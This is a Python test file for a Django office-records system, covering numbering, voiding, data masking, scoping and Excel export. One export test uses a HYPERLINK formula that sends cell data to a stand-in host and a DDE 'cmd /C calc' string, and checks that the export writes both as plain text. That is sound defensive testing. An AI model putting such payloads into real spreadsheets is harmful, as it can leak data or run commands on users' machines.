"""The shared blocks every app uses: numbering, voiding, masking, the scope rule, Excel export."""

import datetime
import io

import pytest
from django.core.exceptions import ValidationError
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from documents.services import publicity as publicity_services
from office import masking
from office.choices import SupervisionStatus
from office.models import RegisterExport, SerialCounter, SupervisedItem
from office.numbering import last_serial, next_serial, set_at_least
from office.selectors import restrict_to_department
from office.services.supervision import supervised_item_open
from office.services.voiding import record_void
from tests.documents.factories import IncomingFactory

pytestmark = pytest.mark.django_db


class TestNumbering:
    def test_serials_follow_each_other_per_key_and_year(self):
        with transaction.atomic():
            assert [next_serial("test:a", 2026) for _ in range(3)] == [1, 2, 3]
            assert next_serial("test:a", 2027) == 1
            assert next_serial("test:b", 2026) == 1

    def test_a_rolled_back_registration_gives_its_number_back(self):
        with transaction.atomic():
            next_serial("test:a", 2026)
        with pytest.raises(RuntimeError), transaction.atomic():
            next_serial("test:a", 2026)
            raise RuntimeError("the registration failed after taking its number")
        with transaction.atomic():
            assert next_serial("test:a", 2026) == 2

    @pytest.mark.django_db(transaction=True)
    def test_a_serial_outside_a_transaction_is_refused(self):
        with pytest.raises(RuntimeError):
            next_serial("test:a", 2026)
        assert not SerialCounter.objects.exists()

    def test_an_import_moves_a_sequence_forward_never_back(self):
        with transaction.atomic():
            set_at_least("test:a", 2026, 7)
            set_at_least("test:a", 2026, 3)
        assert last_serial("test:a", 2026) == 7


class TestVoiding:
    def _publicity(self, clerk, handler):
        return publicity_services.publicity_create(
            actor=clerk, channel="website", title="节水宣传", department=handler.department
        )

    def test_void_keeps_the_record_with_who_when_and_why(self, clerk, handler):
        item = self._publicity(clerk, handler)
        voided = record_void(actor=clerk, record=item, reason="重复登记", noun="条目")
        voided.refresh_from_db()
        assert voided.is_voided and voided.voided_by == clerk and voided.void_reason == "重复登记"
        assert voided.history.first().history_change_reason == "作废"

    def test_voiding_twice_or_without_a_reason_is_refused(self, clerk, handler):
        item = self._publicity(clerk, handler)
        with pytest.raises(ValidationError) as error:
            record_void(actor=clerk, record=item, reason="  ")
        assert "作废原因" in str(error.value)
        item.refresh_from_db()
        assert not item.is_voided
        record_void(actor=clerk, record=item, reason="重复登记")
        with pytest.raises(ValidationError, match="已作废"):
            record_void(actor=clerk, record=item, reason="再次")

    def test_a_refusing_check_writes_nothing(self, clerk, handler):
        item = self._publicity(clerk, handler)

        def check(record):
            raise ValidationError({"status": "不可作废"})

        with pytest.raises(ValidationError):
            record_void(actor=clerk, record=item, reason="重复", check=check)
        item.refresh_from_db()
        assert not item.is_voided and item.history.count() == 1

    def test_the_records_open_supervised_items_are_voided_too(self, clerk, handler):
        document = IncomingFactory(created_by=clerk)
        item = supervised_item_open(
            actor=clerk,
            title="办理来文",
            category="document",
            owner_department=handler.department,
            responsible=handler,
            start_date=datetime.date(2026, 3, 2),
            deadline=datetime.date(2026, 3, 20),
            source=document,
        )
        record_void(actor=clerk, record=document, reason="误登记", noun="收文")
        item.refresh_from_db()
        document.refresh_from_db()
        assert document.status == "voided" and item.status == SupervisionStatus.VOIDED
        assert "收文作废：误登记" in item.void_reason


class TestMasking:
    @pytest.mark.parametrize(
        ("kind", "value", "masked"),
        [
            ("phone", "13812345678", "138****5678"),
            ("id_number", "320102199001011234", "3201**********1234"),
            ("address", "江苏省南京市玄武区北京东路41号", "江苏省南京市****"),
            ("name", "欧阳明", "欧**"),
            ("money", "5230.00", "***"),
            ("date", datetime.date(1990, 1, 1), "1990年"),
        ],
    )
    def test_each_kind_masks_what_identifies(self, kind, value, masked):
        assert masking.mask(value, kind) == masked
        assert masking.shown(value, kind, True) == value
        assert masking.shown(value, kind, False) == masked

    def test_empty_values_stay_empty(self):
        assert all(masking.mask("", kind) == "" for kind in ("phone", "id_number", "address", "name", "money"))


class TestScope:
    def test_a_user_without_a_department_sees_only_rows_naming_them(self, outsider, handler):
        mine = SupervisedItem.objects.create(
            title="个人事项",
            category="special",
            owner_department=handler.department,
            responsible=outsider,
            start_date=datetime.date(2026, 1, 5),
            deadline=datetime.date(2026, 1, 9),
            created_by=handler,
        )
        SupervisedItem.objects.create(
            title="科室事项",
            category="special",
            owner_department=handler.department,
            responsible=handler,
            start_date=datetime.date(2026, 1, 5),
            deadline=datetime.date(2026, 1, 9),
            created_by=handler,
        )
        rows = restrict_to_department(
            SupervisedItem.objects.all(), outsider, department_field="owner_department", person_field="responsible"
        )
        assert list(rows) == [mine]
        everything = restrict_to_department(SupervisedItem.objects.all(), handler, department_field="owner_department")
        assert everything.count() == 2


class TestExport:
    def test_text_that_looks_like_a_formula_is_written_as_text(self, client, clerk):
        IncomingFactory(
            title='=HYPERLINK("http://evil.example/"&A2,"点击")', sender="+cmd|' /C calc'!A0", created_by=clerk
        )
        client.force_login(clerk)
        response = client.get(reverse("documents:incoming_export"))
        sheet = load_workbook(io.BytesIO(response.content)).active
        values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
        assert "'=HYPERLINK(\"http://evil.example/\"&A2,\"点击\")" in values
        assert "'+cmd|' /C calc'!A0" in values
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)

    def test_a_large_register_goes_to_the_background_and_only_its_requester_downloads_it(
        self, client, clerk, leader, settings, django_capture_on_commit_callbacks
    ):
        settings.EXPORT_INLINE_ROWS = 1
        for n in range(3):
            IncomingFactory(title=f"来文{n}", created_by=clerk)
        client.force_login(clerk)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.get(reverse("documents:incoming_export"))
        assert response.status_code == 302 and response["Location"] == reverse("exports:list")
        job = RegisterExport.objects.get()
        # Tasks run inline in the test settings: the file is written and the clerk notified.
        assert job.status == RegisterExport.DONE and job.rows == 3
        assert clerk.notifications.filter(title__contains="导出已完成").exists()
        download = client.get(reverse("exports:download", args=[job.pk]))
        assert download.status_code == 200
        sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
        assert sheet.max_row == 4
        client.force_login(leader)
        assert client.get(reverse("exports:download", args=[job.pk])).status_code == 404

    def test_the_exports_page_lists_only_my_exports_in_flat_queries(self, client, clerk, leader):
        client.force_login(clerk)
        for n in range(2):
            RegisterExport.objects.create(requested_by=clerk, register="x", title=f"导出{n}")
        RegisterExport.objects.create(requested_by=leader, register="x", title="别人的导出")
        client.get(reverse("exports:list"))  # warm the session
        with CaptureQueriesContext(connection) as two:
            page = client.get(reverse("exports:list")).content.decode()
        for n in range(2, 20):
            RegisterExport.objects.create(requested_by=clerk, register="x", title=f"导出{n}")
        with CaptureQueriesContext(connection) as twenty:
            client.get(reverse("exports:list"))
        # Session, user, the page's count and rows, the frame's navigation and badge: none per row.
        assert len(two.captured_queries) == len(twenty.captured_queries) <= 12
        assert "导出1" in page and "别人的导出" not in page
